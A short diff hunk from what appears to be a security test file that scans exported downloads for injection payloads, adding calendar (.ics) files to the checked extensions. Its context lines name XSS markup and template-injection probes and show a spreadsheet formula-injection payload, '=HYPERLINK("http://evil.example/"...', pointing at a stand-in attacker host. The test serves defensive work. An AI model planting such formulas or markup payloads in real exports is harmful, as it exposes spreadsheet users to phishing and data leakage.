@@ -59,7 +59,8 @@ HYPERLINK, PLUS, MINUS, AT = PAYLOADS[:4]  # '=HYPERLINK("http://evil.example/",
 MARKUP = (IMG, SCRIPT, SVG, SVG_SQ, TEXTAREA, TITLE)
 ALL = (*MARKUP, SUM, DEBUG, HYPERLINK, PLUS, MINUS, AT)
 RENDERED_TEMPLATE = re.compile(r"SSTI(?!\{\{ 7\*7 \}\}|\{% debug %\})")
-DOWNLOADS, SPREADSHEETS = (".pdf", ".xlsx", ".csv"), (".xlsx", ".csv")  # a certificate PDF holds no cells
+# a certificate PDF and a calendar feed (.ics) hold no cells
+DOWNLOADS, SPREADSHEETS = (".pdf", ".xlsx", ".csv", ".ics"), (".xlsx", ".csv")
 NUMBER = re.compile(r"-?\d+(\.\d+)?%?")  # "-2" in a CSV is a number to a spreadsheet, not a formula
 
 # Elements a payload would have created: an event handler that calls alert, or a script that is only alert.
